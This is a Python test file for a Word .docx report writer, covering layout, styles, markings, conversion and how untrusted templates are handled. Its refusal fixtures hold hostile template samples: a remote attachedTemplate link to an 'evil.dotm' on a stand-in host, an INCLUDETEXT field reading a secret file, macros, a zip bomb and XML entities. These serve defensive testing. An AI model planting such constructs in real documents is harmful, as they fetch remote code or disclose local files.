"""A paper as a Word file: its words, its styles, what it carries along, and templates that are used or refused."""

import io
import re
import shutil
import subprocess
from collections.abc import Mapping
from dataclasses import replace
from functools import cache
from pathlib import Path
from typing import Any
from xml.etree import ElementTree as ET
from zipfile import ZIP_DEFLATED, ZipFile

import docx
import pytest
from docx.document import Document
from docx.table import Table as WordTable
from docx.text.paragraph import Paragraph as WordParagraph
from exploring import times
from hypothesis import given, settings
from hypothesis import strategies as st
from papers import EMPTY, HOSTILE_TEXTS, LEFTWARDS, LONG, PLAIN, hostile, rows, texts

from readiness.blocks import Heading, Paper, Paragraph, Table
from readiness.formats.docx import ATTACHED, write
from readiness.pages import MOST_ROWS, ROOM, escaped, lay_out, shares, words

W = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"
HOSTILE = hostile(*HOSTILE_TEXTS, LEFTWARDS)
PAPERS = {"plain": PLAIN, "hostile": HOSTILE, "empty": EMPTY, "rows": rows(200)}
OFFICE = shutil.which("soffice")


def made(paper: Paper, template: bytes | None = None) -> bytes:
    raw = write(paper, template)
    assert isinstance(raw, bytes), raw
    return raw


def opened(raw: bytes) -> Document:
    return docx.Document(io.BytesIO(raw))


def said(raw: bytes) -> list[str]:
    """Return the texts of a document in the order of its body."""
    found: list[str] = []
    for one in opened(raw).iter_inner_content():
        if isinstance(one, WordTable):
            found += [cell.text for row in one.rows for cell in row.cells]
        elif isinstance(one, WordParagraph):
            found.append(one.text)
    return found


def parts(raw: bytes) -> dict[str, bytes]:
    with ZipFile(io.BytesIO(raw)) as archive:
        return {one.filename: archive.read(one) for one in archive.infolist()}


def packed(blobs: Mapping[str, bytes]) -> bytes:
    out = io.BytesIO()
    with ZipFile(out, "w", ZIP_DEFLATED) as archive:
        for name, blob in blobs.items():
            archive.writestr(name, blob)
    return out.getvalue()


@pytest.mark.parametrize("name", PAPERS)
def test_every_word_is_there_in_order(name: str) -> None:
    paper = PAPERS[name]
    printed = [words(one) for one in texts(paper)]
    assert [one for one in said(made(paper)) if one] == [one for one in printed if one]


@pytest.mark.parametrize("name", PAPERS)
def test_the_same_paper_is_the_same_bytes(name: str) -> None:
    raw = made(PAPERS[name])
    assert raw == made(PAPERS[name])
    with ZipFile(io.BytesIO(raw)) as archive:
        assert {one.date_time for one in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}
        names = archive.namelist()
    assert names[:2] == ["[Content_Types].xml", "_rels/.rels"]
    assert names[2:] == sorted(names[2:])


@pytest.mark.parametrize("name", PAPERS)
def test_what_is_attached_is_a_part_of_the_file(name: str) -> None:
    raw = made(PAPERS[name])
    held = ET.fromstring(parts(raw)["customXml/item1.xml"])  # noqa: S314 - our own
    assert held.tag == f"{{{ATTACHED}}}attachment"
    assert held.text == escaped(PAPERS[name].attachment)
    kinds = [one.reltype.rpartition("/")[2] for one in opened(raw).part.rels.values()]
    assert "customXml" in kinds


def test_styles_are_those_of_word() -> None:
    document = opened(made(PLAIN))
    found = {one.text: one.style.name for one in document.paragraphs if one.style is not None}
    assert found[PLAIN.title] == "Title"
    assert found["Purpose"] == "Heading 1"
    assert found["By owner"] == "Heading 2"
    assert found["NOTE the decision."] == "List Bullet"
    assert found["Gaps in the order of who must act by when"] == "Caption"
    assert found["TST-05 Testing is open on time"] == "Paper Fold"
    for name in ("Heading 1", "Heading 2", "Heading 3", "Caption", "Title", "Paper Fold", "Paper Picture"):
        assert document.styles[name].paragraph_format.keep_with_next  # type: ignore[attr-defined]
    assert {one.style.name for one in document.tables if one.style is not None} == {"Paper Table"}


def test_tables_repeat_their_head_and_keep_rows_whole() -> None:
    table = opened(made(PLAIN)).tables[1]._tbl
    first, *others = table.tr_lst
    assert first.find(f"{W}trPr/{W}tblHeader") is not None
    assert all(one.find(f"{W}trPr/{W}tblHeader") is None for one in others)
    assert all(one.find(f"{W}trPr/{W}cantSplit") is not None for one in (first, *others))
    described = table.find(f"{W}tblPr/{W}tblCaption")
    assert described is not None
    assert described.get(f"{W}val") == "Gaps in the order of who must act by when"


def test_a_row_longer_than_a_page_may_break() -> None:
    long = Table("Long", ("A", "B"), (("a", "words " * 2_000), ("b", "short")))
    table = opened(made(replace(PLAIN, blocks=(long,)))).tables[1]._tbl
    assert [one.find(f"{W}trPr/{W}cantSplit") is None for one in table.tr_lst] == [False, True, False]


def test_columns_are_as_wide_as_the_table_says_and_no_word_breaks() -> None:
    table = Table("T", ("A", "B"), (("x", "y"),), widths=(1, 3))
    assert shares(table, ROOM) == (0.25, 0.75)
    narrow = Table("T", ("Criterion", "Because"), (("LSC-TST-01", "words " * 40),), widths=(1, 99))
    first, second = shares(narrow, ROOM)
    assert 0.1 < first < 0.2
    assert first + second == pytest.approx(1)
    raw = opened(made(replace(PLAIN, blocks=(table,)))).tables[1]._tbl
    wide = [int(one.get(f"{W}w", "0")) for one in raw.tblGrid]
    assert wide == [2353, 7059]


@pytest.mark.parametrize("where", ["header", "footer"])
def test_every_page_says_how_it_is_classified(where: str) -> None:
    (section,) = opened(made(PLAIN)).sections
    edge = section.header if where == "header" else section.footer
    assert PLAIN.marking in "".join(one.text for one in edge.paragraphs)
    fields = [one.get(f"{W}instr", "").strip() for one in edge._element.iter(f"{W}fldSimple")]
    assert fields == ([] if where == "header" else ["PAGE", "NUMPAGES"])
    if where == "header":
        assert PLAIN.number in edge.paragraphs[0].text


def test_a_file_says_what_it_is() -> None:
    document = opened(made(PLAIN))
    about = document.core_properties
    assert (about.title, about.subject, about.language) == (PLAIN.title, PLAIN.number, "en-GB")
    assert about.created is not None
    assert about.created.date() == about.modified.date() == PLAIN.day  # type: ignore[union-attr]
    language = document.styles.element.find(f"{W}docDefaults/{W}rPrDefault/{W}rPr/{W}lang")
    assert language is not None
    assert language.get(f"{W}val") == "en-GB"
    (section,) = document.sections
    assert section.page_width is not None
    assert (round(section.page_width.mm), round(section.page_height.mm)) == (210, 297)  # type: ignore[union-attr]


def test_a_picture_is_crisp_and_says_in_words_what_it_shows() -> None:
    document = opened(made(PLAIN))
    (shape,) = document.inline_shapes
    assert shape._inline.docPr.get("descr") == "BAT begins on 15 September."
    link = shape._inline.graphic.graphicData.pic.blipFill.blip.embed  # type: ignore[union-attr]
    image = document.part.related_parts[str(link)].image  # type: ignore[attr-defined]
    assert image.content_type == "image/png"
    assert image.px_width / shape.width.inches >= 200
    assert shape.width / shape.height == pytest.approx(600 / 160, rel=0.01)


def test_text_that_runs_from_right_to_left_is_marked() -> None:
    (found,) = [one for one in opened(made(replace(PLAIN, blocks=(Paragraph(LEFTWARDS),)))).paragraphs[2:] if one.text]
    assert found._p.find(f"{W}pPr/{W}bidi") is not None
    marked = {run.text: run._r.find(f"{W}rPr/{W}rtl") is not None for run in found.runs}
    assert marked[" and "] is False
    assert [text for text, how in marked.items() if how] == [LEFTWARDS[:9], LEFTWARDS[14:21]]


def test_rows_beyond_the_limit_are_counted_in_words() -> None:
    found = said(made(rows(MOST_ROWS + 5)))
    assert "5 more rows are not printed; the assessment in this file has them." in found
    assert "5 more lines are not printed; the assessment in this file has them." in found
    assert f"C{MOST_ROWS - 1}" in found
    assert f"C{MOST_ROWS}" not in found


def test_headings_begin_at_the_first_level_whatever_the_report_begins_with() -> None:
    shown = lay_out(replace(PLAIN, blocks=(Heading(3, "a"), Heading(2, "b"), Heading(6, "c"))))
    assert [one.level for one in shown.blocks if isinstance(one, Heading)] == [2, 1, 3]


@given(st.text(max_size=200), st.text(max_size=200))
@settings(max_examples=times(60), deadline=None)
def test_any_text_comes_out_as_text(one: str, two: str) -> None:
    table = Table(two, (one, two), ((two, one),))
    paper = Paper(one, ((two, one),), PLAIN.day, two, one, two, (Heading(2, two), table, Paragraph(one)), "{}")
    printed = [words(text) for text in texts(paper)]
    assert [text for text in said(made(paper)) if text] == [text for text in printed if text]


# Templates


@cache
def given_template() -> bytes:
    """Return the parts of a group's template: wide margins, a header of its own, a style for headings, a page of words."""
    document = docx.Document()
    document.add_paragraph("Words of the template")
    document.styles["Heading 1"].font.name = "Georgia"  # type: ignore[attr-defined]
    (section,) = document.sections
    section.left_margin = section.right_margin = docx.shared.Cm(4)  # type: ignore[attr-defined]
    section.header.paragraphs[0].text = "The Operations Group"
    section.footer.paragraphs[0].text = "Classification: White"
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def own() -> dict[str, bytes]:
    """Return the parts of the template, to be changed."""
    return parts(given_template())


def changed(name: str, old: str, new: str) -> bytes:
    blobs = own()
    assert old in blobs[name].decode()
    return packed({**blobs, name: blobs[name].decode().replace(old, new).encode()})


def test_a_template_lends_its_styles_margins_and_header() -> None:
    raw = made(PLAIN, packed(own()))
    document = opened(raw)
    assert "Words of the template" not in said(raw)
    assert [one for one in said(raw) if one] == [words(one) for one in texts(PLAIN)]
    assert document.styles["Heading 1"].font.name == "Georgia"  # type: ignore[attr-defined]
    (section,) = document.sections
    assert section.header.paragraphs[0].text == "The Operations Group"
    assert PLAIN.marking in section.header.paragraphs[1].text
    assert {one.get(f"{W}val") for one in section.header.paragraphs[1]._p.iter(f"{W}tab")} == {None, "clear", "right"}
    assert all(one._p.find(f"{W}pPr/{W}keepNext") is not None for one in document.paragraphs if one.text == "Inputs")
    assert "".join(one.text for one in section.footer.paragraphs).count("White") == 1
    assert list(section.footer._element.iter(f"{W}fldSimple"))
    width = sum(int(one.get(f"{W}w", "0")) for one in document.tables[1]._tbl.tblGrid)
    assert width == round((section.page_width - section.left_margin - section.right_margin) / 635)  # type: ignore[operator]
    assert raw == made(PLAIN, packed(own()))


def test_a_word_template_proper_is_taken_as_one() -> None:
    raw = changed("[Content_Types].xml", "document.main+xml", "template.main+xml")
    assert [one for one in said(made(PLAIN, raw)) if one] == [words(one) for one in texts(PLAIN)]


def test_a_style_that_the_template_lacks_is_added() -> None:
    blobs = own()
    styles = re.sub(
        rb'<w:style [^>]*w:styleId="(Heading1|ListBullet|Caption)".*?</w:style>', b"", blobs["word/styles.xml"]
    )
    del blobs["word/numbering.xml"]
    links = blobs["word/_rels/document.xml.rels"]
    blobs["word/_rels/document.xml.rels"] = re.sub(rb"<Relationship [^>]*numbering.xml[^>]*/>", b"", links)
    raw = made(PLAIN, packed({**blobs, "word/styles.xml": styles}))
    found = {one.text: one.style.name for one in opened(raw).paragraphs if one.style is not None}
    assert (found["Purpose"], found["NOTE the decision."]) == ("Heading 1", "List Bullet")


def test_first_and_even_pages_are_marked_too() -> None:
    blobs = own()
    document = blobs["word/document.xml"].replace(b"<w:docGrid", b"<w:titlePg/><w:docGrid")
    settings_ = blobs["word/settings.xml"].replace(b"<w:compat>", b"<w:evenAndOddHeaders/><w:compat>", 1)
    assert b"<w:titlePg/>" in document
    assert b"<w:evenAndOddHeaders/>" in settings_
    raw = made(PLAIN, packed({**blobs, "word/document.xml": document, "word/settings.xml": settings_}))
    (section,) = opened(raw).sections
    edges = (section.header, section.first_page_header, section.even_page_header)
    for edge in (*edges, section.footer, section.first_page_footer, section.even_page_footer):
        assert not edge.is_linked_to_previous
        assert PLAIN.marking in "".join(one.text for one in edge.paragraphs)


def test_headers_of_an_earlier_section_are_taken_over() -> None:
    blobs = own()
    found = re.search(rb"<w:sectPr.*</w:sectPr>", blobs["word/document.xml"], re.DOTALL)
    assert found is not None
    early = b"<w:p><w:pPr>" + found.group() + b"</w:pPr></w:p>"
    late = re.sub(rb"<w:(header|footer)Reference[^>]*/>", b"", found.group())
    document = blobs["word/document.xml"].replace(found.group(), early + late)
    (section,) = opened(made(PLAIN, packed({**blobs, "word/document.xml": document}))).sections
    assert section.header.paragraphs[0].text == "The Operations Group"


def bomb() -> bytes:
    return packed({**own(), "word/media/image1.png": b"\0" * 40_000_000})


MACROS = "application/vnd.ms-word.document.macroEnabled.main+xml"
DOCUMENT = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
RELS = "word/_rels/document.xml.rels"
FETCHED = (
    '<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
    ' Target="https://example.com/evil.dotm" TargetMode="External"/></Relationships>'
)
FIELD = '<w:fldSimple w:instr="INCLUDETEXT c:/secret.txt"/></w:p>'
REFUSED: dict[str, tuple[Any, str]] = {
    "not a file": (lambda: b"words", "no Word file"),
    "an old file": (lambda: b"\xd0\xcf\x11\xe0" + b"\0" * 600, "old Word file"),
    "a broken archive": (lambda: b"PK\x03\x04" + b"\0" * 100, "damaged"),
    "an archive of something else": (lambda: packed({"a.txt": b"a"}), "no part [Content_Types].xml"),
    "a bomb": (bomb, "packed into"),
    "macros": (lambda: changed("[Content_Types].xml", DOCUMENT, MACROS), "macros"),
    "a program": (lambda: packed({**own(), "word/vbaProject.bin": b"x"}), "macros"),
    "a link to elsewhere": (lambda: changed(RELS, "</Relationships>", FETCHED), "fetches something from elsewhere"),
    "a field that fetches": (lambda: changed("word/header1.xml", "</w:p>", FIELD), "INCLUDETEXT"),
    "a header without a link": (
        lambda: changed("word/document.xml", ' r:id="rId9"', ""),
        "header or footer that it lacks",
    ),
    "no styles": (
        lambda: packed({k: v for k, v in own().items() if k != "word/styles.xml"}),
        "no part word/styles.xml",
    ),
    "no header": (
        lambda: packed({k: v for k, v in own().items() if k != "word/header1.xml"}),
        "no part word/header1.xml",
    ),
    "no document": (lambda: packed({k: v for k, v in own().items() if k != "word/document.xml"}), "word/document.xml"),
    "entities": (
        lambda: packed({**own(), "word/styles.xml": b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}),
        "document type",
    ),
    "no XML": (lambda: packed({**own(), "word/styles.xml": b"<w:styles"}), "no XML"),
    "other XML": (lambda: packed({**own(), "word/styles.xml": b"<styles/>"}), "ordinary Word file"),
}


@pytest.mark.parametrize("name", REFUSED)
def test_a_template_that_cannot_be_trusted_is_refused_in_words(name: str) -> None:
    build, why = REFUSED[name]
    answer = write(PLAIN, build())
    assert isinstance(answer, str)
    assert answer.startswith("the template cannot be used: ")
    assert why in answer
    assert "\n" not in answer


@given(st.data())
@settings(max_examples=times(40), deadline=None)
def test_a_damaged_template_is_used_or_refused(data: st.DataObject) -> None:
    blobs = own()
    name = data.draw(st.sampled_from(sorted(one for one in blobs if one.endswith((".xml", ".rels")))))
    blob = blobs[name]
    at = data.draw(st.integers(0, len(blob)))
    until = data.draw(st.integers(at, min(len(blob), at + 60)))
    blobs[name] = blob[:at] + data.draw(st.sampled_from([b"", b"9", b"x", b"<a/>", b'"'])) + blob[until:]
    answer = write(EMPTY, packed(blobs))
    if isinstance(answer, bytes):
        opened(answer)
    else:
        assert answer.startswith("the template cannot be used: ")


# Another program


def converted(raw: bytes, into: str, folder: Path) -> Path:
    source = folder / "paper.docx"
    source.write_bytes(raw)
    out = folder / "out"
    profile = f"-env:UserInstallation={(folder / 'profile').as_uri()}"
    call = [str(OFFICE), profile, "--headless", "--convert-to", into, "--outdir", str(out), str(source)]
    subprocess.run(call, check=True, capture_output=True)
    (found,) = out.iterdir()
    return found


@pytest.mark.skipif(OFFICE is None, reason="LibreOffice is not installed")
def test_libreoffice_reads_it_and_keeps_what_is_attached(tmp_path: Path) -> None:
    raw = converted(made(PLAIN), "docx", tmp_path).read_bytes()
    assert [one for one in said(raw) if one] == [words(one) for one in texts(PLAIN)]
    held = [
        blob for name, blob in parts(raw).items() if name.startswith("customXml/item") and ATTACHED.encode() in blob
    ]
    assert escaped(PLAIN.attachment) in [ET.fromstring(one).text for one in held]  # noqa: S314 - our own


@pytest.mark.skipif(
    OFFICE is None or shutil.which("pdftotext") is None, reason="LibreOffice and poppler are not installed"
)
def test_each_page_that_libreoffice_makes_is_marked_and_repeats_the_head(tmp_path: Path) -> None:
    pages = converted(made(PLAIN), "pdf", tmp_path)
    text = subprocess.run(["pdftotext", "-layout", str(pages), "-"], check=True, capture_output=True, text=True).stdout
    each = text.split("\f")[:-1]
    assert len(each) > 2
    for number, page in enumerate(each, 1):
        assert page.count(PLAIN.marking) == 2
        assert f"Page {number} of {len(each)}" in page
        assert "TST-1" not in page or "Criterion" in page


@pytest.mark.skipif(
    OFFICE is None or shutil.which("pdftotext") is None, reason="LibreOffice and poppler are not installed"
)
def test_no_heading_stands_last_on_a_page(tmp_path: Path) -> None:
    table = Table("Caption", ("Head", "Why"), (("a", LONG), ("b", LONG)))
    blocks = tuple(
        block
        for n in range(40)
        for block in (
            Heading(2, f"Heading {n}"),
            Heading(3, f"Heading {n} below"),
            table,
            *[Paragraph("Words.")] * (n % 4),
        )
    )
    pages = converted(made(replace(PLAIN, blocks=blocks)), "pdf", tmp_path)
    text = subprocess.run(["pdftotext", "-layout", str(pages), "-"], check=True, capture_output=True, text=True).stdout
    each = text.split("\f")[:-1]
    assert len(each) > 5
    for page in each:
        lines = [one.strip() for one in page.splitlines() if one.strip() and PLAIN.marking not in one]
        assert not lines[-1].startswith(("Heading", "Caption", "Head"))
